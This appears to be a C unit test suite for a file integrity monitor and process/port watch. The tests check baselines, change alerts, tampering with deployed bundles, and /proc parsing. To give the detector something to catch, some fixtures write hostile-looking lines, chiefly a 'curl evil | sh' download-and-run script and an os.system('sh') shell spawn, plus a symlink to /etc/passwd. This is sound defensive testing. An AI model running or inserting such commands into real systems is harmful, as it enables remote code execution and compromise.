/* Unit tests for file integrity monitoring (src/security/fim.c) and the workload watch
 * (src/security/watch.c): each case gets a fresh temp dir, a fresh SQLite store and a real alert
 * book, and scans on request (no thread). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <jansson.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "catalog/catalog.h"
#include "security/security.h"
#include "store/store.h"

struct fx {
    char dir[256];     /* temp root */
    char watched[300]; /* dir/watched: scope "path" */
    char bundles[300]; /* dir/bundles: scope "bundle" */
    struct store *st;
    struct security_alerts *alerts;
    struct security_fim *fim;
};

static void put(const char *path, const char *text)
{
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
}

static void pathf(char *out, size_t n, const struct fx *f, const char *rel)
{
    snprintf(out, n, "%s/%s", f->watched, rel);
}

static int setup(void **state)
{
    struct fx *f = calloc(1, sizeof(*f));
    assert_non_null(f);
    snprintf(f->dir, sizeof(f->dir), "/tmp/pave-test-fim-XXXXXX");
    assert_non_null(mkdtemp(f->dir));
    snprintf(f->watched, sizeof(f->watched), "%s/watched", f->dir);
    snprintf(f->bundles, sizeof(f->bundles), "%s/bundles", f->dir);
    assert_int_equal(mkdir(f->watched, 0755), 0);
    assert_int_equal(mkdir(f->bundles, 0700), 0);
    char p[512];
    pathf(p, sizeof(p), f, "app.conf");
    put(p, "listen 80\n");
    pathf(p, sizeof(p), f, "sub");
    assert_int_equal(mkdir(p, 0755), 0);
    pathf(p, sizeof(p), f, "sub/data.txt");
    put(p, "some data\n");
    pathf(p, sizeof(p), f, "current");
    assert_int_equal(symlink("app.conf", p), 0);
    char url[400];
    snprintf(url, sizeof(url), "sqlite:%s/pave.db", f->dir);
    struct core_err err = {0};
    assert_int_equal(store_open(&f->st, url, &err), 0);
    struct security_alert_opts ao = {0};
    f->alerts = security_alerts_open(f->st, &ao, &err);
    assert_non_null(f->alerts);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    struct fx *f = *state;
    security_fim_stop(f->fim);
    security_alerts_free(f->alerts);
    store_close(f->st);
    char cmd[400];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
    assert_int_equal(system(cmd), 0);
    free(f);
    return 0;
}

static void start(struct fx *f)
{
    const char *paths[] = {f->watched};
    struct security_fim_opts o = {.paths = paths, .npaths = 1, .bundles_dir = f->bundles};
    struct core_err err = {0};
    f->fim = security_fim_start(f->st, f->alerts, &o, &err);
    assert_non_null(f->fim);
}

/* Scans and returns the change list's items (owned). */
static json_t *scan(struct fx *f)
{
    json_t *out = NULL;
    struct core_err err = {0};
    assert_int_equal(security_fim_scan(f->fim, &out, &err), 0);
    json_t *items = json_incref(json_object_get(out, "items"));
    json_decref(out);
    return items;
}

static json_t *alerts(struct fx *f)
{
    struct core_err err = {0};
    json_t *l = security_alert_list(f->st, NULL, NULL, NULL, 100, &err);
    assert_non_null(l);
    json_t *items = json_incref(json_object_get(l, "items"));
    json_decref(l);
    return items;
}

/* The only change of the list; asserts there is exactly one. */
static json_t *only(json_t *items)
{
    assert_int_equal(json_array_size(items), 1);
    return json_array_get(items, 0);
}

static void test_baseline_without_alerts(void **state)
{
    struct fx *f = *state;
    start(f);
    json_t *ch = scan(f);
    assert_int_equal(json_array_size(ch), 0);
    json_decref(ch);
    json_t *al = alerts(f);
    assert_int_equal(json_array_size(al), 0);
    json_decref(al);
    struct core_err err = {0};
    json_t *b = security_fim_baseline(f->st, "path", &err);
    assert_non_null(b);
    json_t *items = json_object_get(b, "items");
    assert_int_equal(json_array_size(items), 5); /* root, app.conf, current, sub, sub/data.txt */
    size_t i;
    json_t *it;
    int files = 0, links = 0;
    json_array_foreach (items, i, it) {
        const char *kind = json_string_value(json_object_get(it, "kind"));
        if (!strcmp(kind, "file")) {
            files++;
            assert_int_equal(json_string_length(json_object_get(it, "sha256")), 64);
        }
        if (!strcmp(kind, "symlink")) {
            links++;
            assert_string_equal(json_string_value(json_object_get(it, "target")), "app.conf");
        }
    }
    assert_int_equal(files, 2);
    assert_int_equal(links, 1);
    json_decref(b);
    b = security_fim_baseline(f->st, "nope", &err);
    assert_null(b);
    assert_int_equal(err.code, CORE_E_INVAL);
}

static void test_modified_content_raises_once(void **state)
{
    struct fx *f = *state;
    start(f);
    char p[512];
    pathf(p, sizeof(p), f, "app.conf");
    put(p, "listen 8080\n");
    json_t *ch = scan(f);
    json_t *c = only(ch);
    assert_string_equal(json_string_value(json_object_get(c, "change")), "modified");
    assert_string_equal(json_string_value(json_object_get(c, "what")), "content");
    char before[80], after[80];
    snprintf(before, sizeof(before), "%s",
             json_string_value(json_object_get(json_object_get(c, "before"), "sha256")));
    snprintf(after, sizeof(after), "%s",
             json_string_value(json_object_get(json_object_get(c, "after"), "sha256")));
    assert_int_equal(strlen(before), 64);
    assert_int_equal(strlen(after), 64);
    assert_string_not_equal(before, after);
    json_decref(ch);
    json_t *al = alerts(f);
    json_t *a = only(al);
    assert_string_equal(json_string_value(json_object_get(a, "rule_id")), "fim.modified");
    assert_string_equal(json_string_value(json_object_get(a, "source")), "fim");
    assert_string_equal(json_string_value(json_object_get(a, "severity")), "medium");
    assert_non_null(strstr(json_string_value(json_object_get(a, "summary")), p));
    /* the event carries before and after */
    struct core_err err = {0};
    json_t *full = security_alert_get(f->st, json_integer_value(json_object_get(a, "id")), &err);
    assert_non_null(full);
    json_t *ev = json_array_get(json_object_get(full, "events"), 0);
    assert_non_null(ev);
    char *text = json_dumps(ev, JSON_COMPACT);
    assert_non_null(strstr(text, "\"before\""));
    assert_non_null(strstr(text, "\"after\""));
    assert_non_null(strstr(text, before));
    free(text);
    json_decref(full);
    json_decref(al);
    /* repeated scans: still reported, no new alert and no new occurrence */
    for (int i = 0; i < 3; i++) {
        ch = scan(f);
        assert_int_equal(json_array_size(ch), 1);
        json_decref(ch);
    }
    al = alerts(f);
    a = only(al);
    assert_int_equal(json_integer_value(json_object_get(a, "count")), 1);
    json_decref(al);
    /* a second, different change is one more occurrence of the same alert */
    put(p, "listen 9090\n");
    json_decref(scan(f));
    al = alerts(f);
    a = only(al);
    assert_int_equal(json_integer_value(json_object_get(a, "count")), 2);
    json_decref(al);
}

static void test_chmod_chown_symlink(void **state)
{
    struct fx *f = *state;
    start(f);
    char p[512], l[512];
    pathf(p, sizeof(p), f, "sub/data.txt");
    assert_int_equal(chmod(p, 0600), 0);
    json_t *ch = scan(f);
    json_t *c = only(ch);
    assert_string_equal(json_string_value(json_object_get(c, "what")), "mode");
    assert_string_equal(json_string_value(json_object_get(json_object_get(c, "after"), "mode")),
                        "0600");
    json_decref(ch);
    if (geteuid() == 0) {
        assert_int_equal(chown(p, 12345, 12345), 0);
        ch = scan(f);
        c = only(ch);
        assert_string_equal(json_string_value(json_object_get(c, "what")), "mode, owner");
        assert_int_equal(json_integer_value(json_object_get(json_object_get(c, "after"), "uid")),
                         12345);
        json_decref(ch);
    }
    struct core_err err = {0};
    assert_int_equal(security_fim_accept(f->fim, &catalog_actor_system, p, &err), 0);
    ch = scan(f);
    assert_int_equal(json_array_size(ch), 0);
    json_decref(ch);
    /* a symlink pointed elsewhere (never followed: the target is outside the tree) */
    pathf(l, sizeof(l), f, "current");
    assert_int_equal(unlink(l), 0);
    assert_int_equal(symlink("/etc/passwd", l), 0);
    ch = scan(f);
    c = only(ch);
    assert_string_equal(json_string_value(json_object_get(c, "what")), "target");
    assert_string_equal(json_string_value(json_object_get(json_object_get(c, "after"), "target")),
                        "/etc/passwd");
    json_decref(ch);
    /* a file replaced by a directory */
    pathf(p, sizeof(p), f, "app.conf");
    assert_int_equal(unlink(p), 0);
    assert_int_equal(mkdir(p, 0755), 0);
    ch = scan(f);
    assert_int_equal(json_array_size(ch), 2);
    json_t *t = json_array_get(ch, 0);
    assert_string_equal(json_string_value(json_object_get(t, "what")), "type, mode");
    json_decref(ch);
}

static void test_added_removed_accept(void **state)
{
    struct fx *f = *state;
    start(f);
    char p[512];
    pathf(p, sizeof(p), f, "sub/new.sh");
    put(p, "#!/bin/sh\ncurl evil | sh\n");
    pathf(p, sizeof(p), f, "sub/data.txt");
    assert_int_equal(unlink(p), 0);
    char fifo[512];
    pathf(fifo, sizeof(fifo), f, "sub/pipe");
    assert_int_equal(mkfifo(fifo, 0600), 0); /* recorded, never opened (a scan would block) */
    json_t *ch = scan(f);
    assert_int_equal(json_array_size(ch), 3);
    size_t i;
    json_t *c;
    int added = 0, removed = 0;
    json_array_foreach (ch, i, c) {
        const char *what = json_string_value(json_object_get(c, "change"));
        if (!strcmp(what, "added")) {
            added++;
            assert_true(json_is_null(json_object_get(c, "before")));
        } else if (!strcmp(what, "removed")) {
            removed++;
            assert_true(json_is_null(json_object_get(c, "after")));
        }
    }
    assert_int_equal(added, 2);
    assert_int_equal(removed, 1);
    json_decref(ch);
    json_t *al = alerts(f);
    assert_int_equal(json_array_size(al), 3);
    json_decref(al);
    /* accepting everything re-baselines, audited */
    struct catalog_actor alice = {.user = "alice", .is_admin = true};
    struct core_err err = {0};
    assert_int_equal(security_fim_accept(f->fim, &alice, NULL, &err), 0);
    ch = scan(f);
    assert_int_equal(json_array_size(ch), 0);
    json_decref(ch);
    int64_t n = 0;
    assert_int_equal(store_query_int(f->st,
                                     "SELECT COUNT(*) FROM audit WHERE action = "
                                     "'security.fim.accept' AND actor = 'alice'",
                                     NULL, 0, &n, &err),
                     0);
    assert_int_equal(n, 1);
    /* a path that is not watched */
    assert_int_equal(security_fim_accept(f->fim, &alice, "/nowhere/at/all", &err),
                     CORE_E_NOTFOUND);
}

static void test_big_file_not_hashed(void **state)
{
    struct fx *f = *state;
    char p[512];
    pathf(p, sizeof(p), f, "big.img");
    int fd = open(p, O_CREAT | O_WRONLY, 0644);
    assert_true(fd >= 0);
    assert_int_equal(ftruncate(fd, (65LL << 20)), 0); /* sparse: no disk used */
    close(fd);
    start(f);
    struct core_err err = {0};
    json_t *b = security_fim_baseline(f->st, NULL, &err);
    size_t i;
    json_t *it;
    bool seen = false;
    json_array_foreach (json_object_get(b, "items"), i, it) {
        if (strcmp(json_string_value(json_object_get(it, "path")), p) != 0)
            continue;
        seen = true;
        assert_true(json_is_null(json_object_get(it, "sha256")) ||
                    !json_object_get(it, "sha256"));
        assert_non_null(json_object_get(it, "note"));
    }
    assert_true(seen);
    json_decref(b);
    /* compared by size and mtime */
    fd = open(p, O_WRONLY);
    assert_true(fd >= 0);
    assert_int_equal(ftruncate(fd, (66LL << 20)), 0);
    close(fd);
    json_t *ch = scan(f);
    json_t *c = only(ch);
    assert_string_equal(json_string_value(json_object_get(c, "what")), "content");
    json_decref(ch);
}

static void make_bundle(struct fx *f, const char *hex)
{
    char p[512];
    snprintf(p, sizeof(p), "%s/%s", f->bundles, hex);
    assert_int_equal(mkdir(p, 0755), 0);
    snprintf(p, sizeof(p), "%s/%s/rootfs", f->bundles, hex);
    assert_int_equal(mkdir(p, 0755), 0);
    snprintf(p, sizeof(p), "%s/%s/rootfs/server.py", f->bundles, hex);
    put(p, "print('hello')\n");
    snprintf(p, sizeof(p), "%s/%s/.complete", f->bundles, hex);
    put(p, "");
}

static void test_bundles(void **state)
{
    struct fx *f = *state;
    struct core_err err = {0};
    const char *hex = "ab12";
    assert_int_equal(store_exec(f->st,
                                "INSERT INTO teams (name, created_at, updated_at) VALUES "
                                "('payments', 'now', 'now')",
                                NULL, 0, NULL, &err),
                     0);
    assert_int_equal(store_exec(f->st,
                                "INSERT INTO services (name, team, tier, manifest, digest, "
                                "revision, created_at, updated_at) VALUES ('web', 'payments', 3, "
                                "'{}', 'x', 1, 'now', 'now')",
                                NULL, 0, NULL, &err),
                     0);
    assert_int_equal(store_exec(f->st,
                                "INSERT INTO deployments (service, env, kind, image, digest, "
                                "replicas, max_surge, max_unavailable, health_deadline_ms, actor, "
                                "state, created_at, created_ms) VALUES ('web', 'dev', 'deploy', "
                                "'web:main', 'sha256:ab12', 1, 1, 0, 1000, 'admin', 'succeeded', "
                                "'now', 0)",
                                NULL, 0, NULL, &err),
                     0);
    start(f);
    /* a bundle of a new deployment is baselined when first seen, not alerted */
    make_bundle(f, hex);
    char tmp[512];
    snprintf(tmp, sizeof(tmp), "%s/.tmp-cd34-x", f->bundles); /* being unpacked: ignored */
    assert_int_equal(mkdir(tmp, 0755), 0);
    json_t *ch = scan(f);
    assert_int_equal(json_array_size(ch), 0);
    json_decref(ch);
    json_t *b = security_fim_baseline(f->st, "bundle", &err);
    assert_int_equal(json_array_size(json_object_get(b, "items")), 2);
    json_decref(b);
    /* tampering with deployed code: high, with the service and its team */
    char p[512];
    snprintf(p, sizeof(p), "%s/%s/rootfs/server.py", f->bundles, hex);
    put(p, "import os; os.system('sh')\n");
    ch = scan(f);
    json_t *c = only(ch);
    assert_string_equal(json_string_value(json_object_get(c, "scope")), "bundle");
    json_decref(ch);
    json_t *al = alerts(f);
    json_t *a = only(al);
    assert_string_equal(json_string_value(json_object_get(a, "severity")), "high");
    assert_string_equal(json_string_value(json_object_get(a, "service")), "web");
    assert_string_equal(json_string_value(json_object_get(a, "team")), "payments");
    json_decref(al);
    /* a bundle pruned as a whole drops its baseline silently */
    char cmd[700];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s/%s'", f->bundles, hex);
    assert_int_equal(system(cmd), 0);
    ch = scan(f);
    assert_int_equal(json_array_size(ch), 0);
    json_decref(ch);
    b = security_fim_baseline(f->st, "bundle", &err);
    assert_int_equal(json_array_size(json_object_get(b, "items")), 0);
    json_decref(b);
}

static void test_nested_paths_once(void **state)
{
    struct fx *f = *state;
    char sub[512];
    pathf(sub, sizeof(sub), f, "sub");
    const char *paths[] = {sub, f->watched, f->watched};
    struct security_fim_opts o = {.paths = paths, .npaths = 3};
    struct core_err err = {0};
    f->fim = security_fim_start(f->st, f->alerts, &o, &err);
    assert_non_null(f->fim);
    json_t *b = security_fim_baseline(f->st, "path", &err);
    assert_int_equal(json_array_size(json_object_get(b, "items")), 5);
    json_decref(b);
    char p[512];
    pathf(p, sizeof(p), f, "sub/data.txt");
    put(p, "changed\n");
    json_t *ch = scan(f);
    assert_int_equal(json_array_size(ch), 1);
    json_decref(ch);
}

static void test_changes_while_stopped(void **state)
{
    struct fx *f = *state;
    start(f);
    security_fim_stop(f->fim);
    f->fim = NULL;
    char p[512];
    pathf(p, sizeof(p), f, "app.conf");
    put(p, "changed while the server was down\n");
    start(f); /* the start scan compares with the stored baseline */
    json_t *al = alerts(f);
    assert_int_equal(json_array_size(al), 1);
    json_decref(al);
}

/* ---- workload watch ---------------------------------------------------------------------- */

/* In a child: never outlive the test, even when an assertion fails before its kill. */
static void child_bounded(void)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    alarm(20); /* kept across exec */
}

static pid_t spawn(const char *const argv[])
{
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        child_bounded();
        execv(argv[0], (char *const *)argv);
        _exit(127);
    }
    return pid;
}

static bool exe_is(pid_t pid, const char *name)
{
    char p[64], buf[512];
    snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
    ssize_t n = readlink(p, buf, sizeof(buf) - 1);
    if (n <= 0)
        return false;
    buf[n] = 0;
    return strstr(buf, name) != NULL;
}

static void test_watch_process_and_port(void **state)
{
    struct fx *f = *state;
    /* this test process plays the shim: the first child (sleep) is the main process */
    const char *sleep_argv[] = {"/bin/sleep", "30", NULL};
    pid_t main_pid = spawn(sleep_argv);
    for (int i = 0; i < 200 && !exe_is(main_pid, "sleep"); i++)
        usleep(10000);
    usleep(30000); /* start times are in clock ticks: the intruders start later */
    const char *cat_argv[] = {"/bin/cat", NULL};
    int in[2];
    assert_int_equal(pipe(in), 0);
    pid_t intruder = fork();
    assert_true(intruder >= 0);
    if (intruder == 0) {
        child_bounded();
        dup2(in[0], 0);
        close(in[1]);
        execv(cat_argv[0], (char *const *)cat_argv);
        _exit(127);
    }
    close(in[0]);
    /* a child of ours that listens on a port (its executable is this test: unexpected too) */
    int ready[2];
    assert_int_equal(pipe(ready), 0);
    pid_t listener = fork();
    assert_true(listener >= 0);
    if (listener == 0) {
        child_bounded();
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 4))
            _exit(1);
        socklen_t len = sizeof(a);
        getsockname(s, (struct sockaddr *)&a, &len);
        int port = ntohs(a.sin_port);
        if (write(ready[1], &port, sizeof(port)) != sizeof(port))
            _exit(1);
        pause();
        _exit(0);
    }
    int port = 0;
    assert_int_equal(read(ready[0], &port, sizeof(port)), sizeof(port));
    for (int i = 0; i < 200 && !exe_is(intruder, "cat"); i++)
        usleep(10000);

    struct core_err err = {0};
    struct security_watch *w = security_watch_start(f->st, f->alerts, NULL, 0, &err);
    assert_non_null(w);
    json_t *items = json_array();
    /* the test binary is the "shim" executable: the listener is the platform's, so use a
     * different root: our own parent is not involved, the root is getpid() */
    assert_int_equal(security_watch_inspect(w, "web", "dev", "web.dev.1", (long)getpid(), 1,
                                            items, &err),
                     0);
    bool saw_cat = false, saw_port = false;
    size_t i;
    json_t *it;
    json_array_foreach (items, i, it) {
        const char *rule = json_string_value(json_object_get(it, "rule_id"));
        if (!strcmp(rule, "builtin.unexpected-process")) {
            assert_int_not_equal(json_integer_value(json_object_get(it, "pid")), main_pid);
            if (json_integer_value(json_object_get(it, "pid")) == intruder) {
                saw_cat = true;
                assert_string_equal(json_string_value(json_object_get(it, "cmdline")),
                                    "/bin/cat");
            }
        }
        if (!strcmp(rule, "builtin.new-listening-port") &&
            json_integer_value(json_object_get(it, "port")) == port) {
            saw_port = true;
            assert_int_equal(json_integer_value(json_object_get(it, "pid")), listener);
        }
    }
    assert_true(saw_cat);
    assert_true(saw_port);
    json_decref(items);
    json_t *al = alerts(f);
    assert_int_equal(json_array_size(al), 2); /* cat; the port (the listener runs our exe) */
    json_array_foreach (al, i, it)
        assert_string_equal(json_string_value(json_object_get(it, "severity")), "high");
    json_decref(al);
    /* seen again: nothing new */
    assert_int_equal(security_watch_inspect(w, "web", "dev", "web.dev.1", (long)getpid(), 1,
                                            NULL, &err),
                     0);
    al = alerts(f);
    json_array_foreach (al, i, it)
        assert_int_equal(json_integer_value(json_object_get(it, "count")), 1);
    json_decref(al);
    security_watch_stop(w);
    close(in[1]);
    kill(main_pid, SIGKILL);
    kill(listener, SIGKILL);
    kill(intruder, SIGKILL);
    waitpid(main_pid, NULL, 0);
    waitpid(listener, NULL, 0);
    waitpid(intruder, NULL, 0);
    close(ready[0]);
    close(ready[1]);
}

static void test_proc_parsers(void **state)
{
    (void)state;
    struct security_proc_stat st;
    /* a name with spaces and parentheses cannot shift the fields */
    const char *stat = "4242 (evil) S 1 (x) R 99 4242 4242 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 777 0 0";
    assert_true(security_proc_stat_parse(stat, strlen(stat), &st));
    assert_int_equal(st.state, 'R');
    assert_int_equal(st.ppid, 99);
    assert_int_equal(st.start, 777);
    assert_false(security_proc_stat_parse("12 (x) S 1", 10, &st));
    assert_false(security_proc_stat_parse("no paren", 8, &st));
    int port = 0;
    unsigned long long ino = 0;
    assert_true(security_proc_net_parse("   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 "
                                        "00:00000000 00000000     0        0 123456 1",
                                        true, &port, &ino));
    assert_int_equal(port, 8080);
    assert_int_equal(ino, 123456);
    /* established TCP, connected UDP: not listening */
    assert_false(security_proc_net_parse("   1: 0100007F:1F90 0100007F:C350 01 0:0 0:0 0 0 0 77",
                                         true, &port, &ino));
    assert_false(security_proc_net_parse("   1: 0100007F:0035 0100007F:C350 01 0:0 0:0 0 0 0 77",
                                         false, &port, &ino));
    assert_true(security_proc_net_parse("   1: 00000000:0035 00000000:0000 07 0:0 0:0 0 0 0 78",
                                        false, &port, &ino));
    assert_int_equal(port, 53);
    char out[SECURITY_CMDLINE_MAX + 1], raw[300];
    memcpy(raw, "sh\0-c\0echo\x1b[31m\0", 16);
    security_proc_cmdline_clean(raw, 16, out, sizeof(out));
    assert_string_equal(out, "sh -c echo?[31m");
    memset(raw, 'a', sizeof(raw));
    security_proc_cmdline_clean(raw, sizeof(raw), out, sizeof(out));
    assert_int_equal(strlen(out), SECURITY_CMDLINE_MAX);
}

int main(void)
{
    core_log_set_level(CORE_LOG_WARN);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_baseline_without_alerts, setup, teardown),
        cmocka_unit_test_setup_teardown(test_modified_content_raises_once, setup, teardown),
        cmocka_unit_test_setup_teardown(test_chmod_chown_symlink, setup, teardown),
        cmocka_unit_test_setup_teardown(test_added_removed_accept, setup, teardown),
        cmocka_unit_test_setup_teardown(test_big_file_not_hashed, setup, teardown),
        cmocka_unit_test_setup_teardown(test_bundles, setup, teardown),
        cmocka_unit_test_setup_teardown(test_changes_while_stopped, setup, teardown),
        cmocka_unit_test_setup_teardown(test_nested_paths_once, setup, teardown),
        cmocka_unit_test_setup_teardown(test_watch_process_and_port, setup, teardown),
        cmocka_unit_test(test_proc_parsers),
    };
    return cmocka_run_group_tests_name("security_fim", tests, NULL, NULL);
}
